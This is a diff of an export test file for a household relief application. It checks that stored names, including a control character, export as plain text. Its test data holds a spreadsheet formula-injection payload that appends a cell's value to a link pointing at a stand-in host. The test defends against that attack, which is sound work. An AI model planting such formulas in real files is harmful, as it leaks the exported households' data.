@@ -6,6 +6,7 @@ import io
 import pytest
 from openpyxl import load_workbook
 
+from relief.households.models import Household
 from tests.factories import login_as, make_household, make_user
 
 FORMULA = '=HYPERLINK("http://x/?"&F2,"Xem")'
@@ -15,7 +16,8 @@ FORMULA = '=HYPERLINK("http://x/?"&F2,"Xem")'
 async def test_household_names_export_as_plain_text_in_csv_and_xlsx(client, role):
     # Rows stored before text was cleaned at entry (or by the migration) still export.
     await make_household(head_name=FORMULA)
-    await make_household(head_name="Hoàng\x07Văn Bé", birth_year=1980)
+    bel = await make_household(head_name="Hoàng Văn Bé", birth_year=1980)
+    await Household.filter(id=bel.id).update(head_name="Hoàng\x07Văn Bé")
     await login_as(client, await make_user(role))
     url = "/reports/export/households/{}?commune=05725"
 
@@ -37,7 +39,8 @@ async def test_household_names_export_as_plain_text_in_csv_and_xlsx(client, role
 
 
 async def test_a_sponsor_asking_for_an_export_gets_no_error_page(client):
-    await make_household(head_name="Hoàng\x07Văn Bé")
+    bel = await make_household(head_name="Hoàng Văn Bé")
+    await Household.filter(id=bel.id).update(head_name="Hoàng\x07Văn Bé")
     await login_as(client, await make_user("sponsor"))
     for fmt in ("csv", "xlsx"):
         response = await client.get(f"/reports/export/households/{fmt}")
